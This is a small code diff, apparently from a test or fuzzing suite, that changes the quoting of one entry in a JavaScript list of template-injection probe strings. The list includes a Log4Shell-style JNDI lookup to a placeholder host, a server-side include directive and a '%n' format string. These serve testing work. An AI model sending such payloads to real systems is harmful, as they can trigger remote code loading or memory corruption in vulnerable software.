@@ -19,7 +19,7 @@ const templates = [
   '{{lit-0}}<?lit$0$?>',
   '$lit$',
   '<!--#include virtual="/struck" -->',
-  '$&$1$`$\'$$',
+  "$&$1$`$'$$",
   '%s%d%n%x',
   '{0}{1}{name}',
   `\${jndi:ldap://struck.invalid/x}`,
